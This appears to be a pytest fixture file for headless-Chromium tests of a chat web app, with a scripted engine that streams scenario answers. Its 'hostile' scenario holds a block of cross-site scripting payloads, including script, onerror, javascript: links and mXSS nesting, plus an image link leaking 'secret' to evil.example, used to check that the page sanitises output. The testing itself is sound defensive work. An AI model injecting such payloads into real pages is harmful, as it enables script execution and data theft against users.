"""The real page before the real server and store, around a scripted engine; one headless Chromium for all tests here.

The first word of a question names the scenario: "slow", "think", "hostile" ... (see `SCENARIOS`).
"""

import asyncio
import importlib.util
import shutil
import socket
import sys
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
import pytest
import uvicorn

from fathom.app.api import OWN_LOGIN_PATHS, UPLOAD_PATHS, mount_api
from fathom.app.routes import mount
from fathom.engine import Finished, Request, Ticket, Timings, Usage
from fathom.search.configured import EngineSettings
from fathom.server.accounts.accounts import Accounts
from fathom.server.api import create_app
from fathom.server.config import ServerConfig
from fathom.server.listen import TimedProtocol
from fathom.server.searching import SearchService
from fathom.server.service import Service
from fathom.text import Answer, Message, Prompt, Thought

FLAGS = [
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
CODE = """Here is a function:

```python
def area(width: float, height: float) -> float:
    # The area of a rectangle.
    return width * height
```

| Figure | Sides | Area |
| :--- | ---: | ---: |
| square | 4 | a² |
| triangle | 3 | ½ g h |

The circle: \\( A = \\pi r^2 \\). It costs $5 and $10.

1. one
2. two

> Measure twice, cut once.
"""
HOSTILE = """<script>window.pwned = 1</script><img src=x onerror="window.pwned = 2">
<svg onload="window.pwned = 3"></svg><iframe srcdoc="<script>parent.pwned = 4</script>"></iframe>

[click](javascript:window.pwned=5) [data](data:text/html,<script>window.pwned=6</script>) [vb](vbscript:pwned)
[same](/chat/completions) [tab](java&#9;script:window.pwned=7) <a href="javascript:window.pwned=8">raw</a>

![secret](https://evil.example/leak.png?q=secret) [good words](https://honest.example/page)
![x" onerror="window.pwned=9](https://evil.example/x.png)
<https://auto.example/"onmouseover="window.pwned=10>

```html"><img src=x onerror=window.pwned=11>
</code></pre><script>window.pwned = 12</script>
```

$\\href{javascript:window.pwned=13}{x}$ \\(\\htmlId{x}{y}\\) $</span><img src=x onerror=window.pwned=14>$

<style>body { display: none }</style><form action="https://evil.example"><input name=q></form>
<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=15></style></mglyph></table></mtext></math>
"""
LONG_PARTS = [f"Sentence {n} of a very long answer, with **weight** and `code`. " for n in range(1000)]


def cut(text: str, size: int) -> list[Answer]:
    """A text as an engine gives it, in small pieces."""
    return [Answer(text[start : start + size]) for start in range(0, len(text), size)]


# The events of an answer and the seconds before each.
SCENARIOS: dict[str, Callable[[], tuple[Sequence[Any], float]]] = {
    "slow": lambda: ([Answer(f"Word{n} " if n % 12 else f"Word{n}\n\n") for n in range(1, 600)], 0.012),
    "think": lambda: ([Answer("The answer is "), Answer("42.")], 0.05),
    "ponder": lambda: ([Answer("Never mind.")], 0.0),
    "code": lambda: (cut(CODE, 7), 0.002),
    "hostile": lambda: (cut(HOSTILE, 9), 0.002),
    "long": lambda: ([Answer(part + ("\n\n" if n % 6 == 5 else "")) for n, part in enumerate(LONG_PARTS)], 0.0),
    "arabic": lambda: ([Answer(one) for one in ("مرحبًا! ", "هذه ", "بالعربية.\n\n", "And one line in English.")], 0.01),
    "cite": lambda: (
        cut("Lentils cook fast [citation:1]. Wombats dig holes [citation:2]. More [citation:9].", 5),
        0.01,
    ),
    "empty": lambda: ([], 0.0),
    "broken": lambda: ([Answer("The begin")], 0.0),
}
THOUGHTS = {"think": (["First I count. ", "Then I *check*. "], 0.4), "ponder": (["Let me see. "] * 600, 0.1)}


def _scripted() -> Any:
    """The module with the scripted engine of tests/server, which has the face of the real one."""
    name = "fathom_tests_scripted"
    if name not in sys.modules:
        spec = importlib.util.spec_from_file_location(name, Path(__file__).parents[2] / "server" / "conftest.py")
        assert spec is not None
        assert spec.loader is not None
        module = importlib.util.module_from_spec(spec)
        sys.modules[name] = module
        spec.loader.exec_module(module)
    return sys.modules[name]


class ScriptedTemplate:
    """The last user message is the prompt; an answer that is to be continued is remembered in its name."""

    name = "scripted"
    thinks = True

    def __init__(self) -> None:
        self.rendered: list[list[Message]] = []

    def render(self, messages: Sequence[Message], *, tools: Sequence[Any] = (), thinking: bool = False) -> Prompt:
        self.rendered.append(list(messages))
        asked = next(message.content or "" for message in reversed(messages) if message.role == "user")
        text = "continue" if messages[-1].role == "assistant" else asked
        return Prompt([0] * (len(text) // 4 + 1), text, "thought" if thinking else "answer")


class ScriptedTicket(Ticket):
    """Remembers what was asked of it."""

    def __init__(self) -> None:
        self.cancelled = threading.Event()
        self.now = threading.Event()
        self.place = 0

    def cancel(self) -> None:
        self.cancelled.set()

    def answer_now(self) -> None:
        self.now.set()

    def position(self) -> int:
        return self.place


class PageEngine(_scripted().ScriptedEngine):  # type: ignore[misc]
    """Plays scenarios, each request in a thread of its own. `queue` keeps requests waiting at that place."""

    def __init__(self) -> None:
        super().__init__()
        self.template = ScriptedTemplate()
        self.max_tokens = 200_000
        self.queue = 0
        self.title = ""
        self.requests: list[Request] = []
        self.cancelled = 0

    def reset(self) -> None:
        self.queue, self.title, self.requests, self.cancelled = 0, "", [], 0
        self.template.rendered.clear()
        self.template.thinks = True

    def submit(self, request: Request, on_event: Callable[[Any], None]) -> ScriptedTicket:
        ticket = ScriptedTicket()
        threading.Thread(target=self._play, args=(request, ticket, on_event), daemon=True).start()
        return ticket

    def _play(self, request: Request, ticket: ScriptedTicket, on_event: Callable[[Any], None]) -> None:
        while self.queue and not ticket.cancelled.wait(0.05):
            ticket.place = self.queue
        ticket.place = 0
        titling = request.prompt.text.startswith("Write a title")
        if not titling:
            self.requests.append(request)
        word = (request.prompt.text.rstrip().splitlines() or [""])[-1].split(" ")[0].lower().strip(",.!?")
        thoughts, thought_pause = THOUGHTS.get(word, (["Let me see. "], 0.05))
        counted = 0
        for thought in thoughts if request.prompt.channel == "thought" else []:
            if ticket.cancelled.is_set() or ticket.now.is_set():
                break
            on_event(Thought(thought))
            counted += 1
            ticket.now.wait(thought_pause)
        events, pause = SCENARIOS.get(word, lambda: ([Answer(one) for one in ("Hello", " **world**", "!")], 0.01))()
        if titling:
            events, pause = [Answer(self.title)] if self.title else [], 0.0
        elif request.prompt.text == "continue":
            events, pause = [Answer("and so "), Answer("it ends.")], 0.05
        for event in events:
            if ticket.cancelled.is_set():
                break
            on_event(event)
            counted += 1
            if pause:
                ticket.cancelled.wait(pause)
        self.cancelled += ticket.cancelled.is_set()
        broken = word == "broken" and request.prompt.text != "continue" and not titling
        reason = "cancelled" if ticket.cancelled.is_set() else "error" if broken else "stop"
        usage = Usage(len(request.prompt.ids), 0, counted, 0)
        on_event(Finished(reason, usage, Timings(0.0, 0.2, 1.0, None, 50.0), error="scripted" if broken else None))


@dataclass
class App:
    """A server with the app, which can be stopped and started again on the same port and the same database."""

    folder: Path
    port: int
    engine: PageEngine = field(default_factory=PageEngine)
    search: Any = None
    context: Any = None
    loading: threading.Event = field(default_factory=threading.Event)
    _server: uvicorn.Server | None = None
    _thread: threading.Thread | None = None

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def start(self) -> None:
        config = ServerConfig(
            port=self.port,
            public_paths=frozenset({"/health", "/", "/static/*", "/share/*", "/worker.js"}),
            own_login_paths=OWN_LOGIN_PATHS,
            upload_paths=UPLOAD_PATHS,
        )
        accounts = Accounts(self.folder / "accounts.sqlite3", "deepseek-v4-flash")
        service = Service(self._load, self.engine.model_name, accounts, self.search)
        served = create_app(service, config)
        mount(served)
        self.context = mount_api(served, f"sqlite:///{self.folder / 'app.sqlite3'}")
        settings = uvicorn.Config(
            served, "127.0.0.1", self.port, http=TimedProtocol, log_config=None, timeout_graceful_shutdown=1
        )
        server = uvicorn.Server(settings)
        loop = asyncio.new_event_loop()

        def run() -> None:
            try:
                loop.run_until_complete(server.serve())
            finally:
                loop.close()

        self._server, self._thread = server, threading.Thread(target=run, daemon=True)
        self._thread.start()
        deadline = time.monotonic() + 20
        while not server.started:
            assert time.monotonic() < deadline, "the server did not start"
            time.sleep(0.02)

    def _load(self, progress: Any) -> PageEngine:
        while self.loading.is_set():
            time.sleep(0.05)
        return self.engine

    def stop(self) -> None:
        if self._server is not None and self._thread is not None:
            self._server.should_exit = True
            self._thread.join(10)
        self._server = None

    def call(self, method: str, path: str, **options: Any) -> Any:
        """One request of the app's routes, as the page would make it."""
        with httpx.Client(base_url=f"{self.url}/app/api/", trust_env=False, timeout=20) as client:
            token = client.get("session").json()["csrf"]
            answer = client.request(method, path, headers={"X-Fathom-CSRF": token}, **options)
            assert answer.status_code < 400, answer.text
            return answer.json() if answer.content else None


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


@pytest.fixture(scope="session")
def shared_app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[App]:
    """One server for all tests here that need none of their own."""
    folder = tmp_path_factory.mktemp("app")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("FATHOM_HOME", str(folder))
        app = App(folder, free_port())
        app.search = SearchService(EngineSettings(), folder / "index.sqlite3")
        app.start()
    yield app
    app.stop()
    app.search.close()


@pytest.fixture
def app(shared_app: App) -> App:
    """The server, without chats."""
    shared_app.engine.reset()
    shared_app.call("DELETE", "chats")
    shared_app.call(
        "PATCH", "settings", json={"temperature": None, "system": "", "memory": False, "thought_tokens": None}
    )
    return shared_app


@pytest.fixture
def own_app(tmp_path: Path) -> Iterator[App]:
    """A server of the test's own, not started."""
    app = App(tmp_path, free_port())
    yield app
    app.stop()


@pytest.fixture(scope="session")
def browser() -> Iterator[Any]:
    playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
    path = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
    if path is None:
        pytest.skip("no Chromium on this machine (Debian: apt-get install chromium)")
    with playwright.sync_playwright() as driver:
        browser = driver.chromium.launch(executable_path=path, headless=True, args=FLAGS, chromium_sandbox=False)
        yield browser
        browser.close()


OpenPage = Callable[..., Any]


@pytest.fixture
def open_any(browser: Any) -> Iterator[OpenPage]:
    """Opens an address in a fresh browser profile; an error in the page or a breach of its policy fails the test."""
    contexts = []
    complaints: list[str] = []

    def open_any(url: str, *, width: int = 1280, height: int = 800, locale: str = "en-GB", **options: Any) -> Any:
        # Service workers are another test's matter: here they would only load everything twice.
        options = {"service_workers": "block", **options}
        context = browser.new_context(viewport={"width": width, "height": height}, locale=locale, **options)
        contexts.append(context)
        context.set_default_timeout(30_000)
        context.on("page", lambda page: _watch(page, complaints))
        page = context.new_page()
        page.goto(url)
        return page

    yield open_any
    for context in contexts:
        context.close()
    assert not complaints, complaints


def _watch(page: Any, complaints: list[str]) -> None:
    page.on("pageerror", lambda error: complaints.append(str(error)))
    page.on("console", lambda message: _collect(message, complaints))


def _collect(message: Any, complaints: list[str]) -> None:
    # Chromium itself reports answers with an error status, which some tests provoke.
    known = ("Failed to load resource", "net::ERR", "service worker", "ServiceWorker")
    if message.type == "error" and not any(words in message.text for words in known):
        complaints.append(message.text)


@pytest.fixture
def open_page(open_any: OpenPage, app: App) -> OpenPage:
    """Opens the page and waits until it can be used."""

    def open_page(path: str = "/", **options: Any) -> Any:
        page = open_any(app.url + path, **options)
        page.locator(".composer textarea").wait_for()
        return page

    return open_page


@pytest.fixture
def page(open_page: OpenPage) -> Any:
    return open_page()


@pytest.fixture
def ask() -> Callable[..., None]:
    """Asks a question and, unless told otherwise, waits for the end of the answer."""

    def ask(page: Any, question: str, *, wait: bool = True) -> None:
        asked = page.locator("article.assistant").count()
        page.locator(".composer textarea").fill(question)
        page.locator(".composer .send").first.click()
        if wait:
            page.locator("article.assistant").nth(asked).and_(page.locator('[aria-busy="false"]')).wait_for()
            page.locator(".composer .stop").wait_for(state="hidden")

    return ask
